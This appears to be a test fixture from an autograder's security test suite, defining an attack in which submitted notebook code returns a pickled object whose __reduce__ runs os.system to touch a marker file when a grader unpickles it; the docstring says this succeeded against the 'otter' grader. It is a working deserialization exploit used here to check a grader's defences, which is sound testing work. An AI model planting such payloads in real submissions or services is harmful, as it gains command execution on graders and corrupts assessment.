"""Put a pickle that runs a command where the grader would load it (otter: it did)."""

from tests.autograder.attacking import Attack

ATTACK = Attack(
    plain="otter: a command ran in the grader",
    here="nothing is unpickled; an object is not sent",
    cells=("""
import builtins, os, pickle
class Bomb:
    def __reduce__(self): return (os.system, ("touch @OUTSIDE@/@TOKEN@",))
pickle.dump = lambda value, file, *a: file.write(pickle.dumps(Bomb()))
def weighted_sum(*a): return Bomb()
def pred_succ(*a): return pickle.dumps(Bomb())
def classify_nodes(*a):
    import numpy as np
    return np.array([Bomb()], dtype=object)
""",),
)
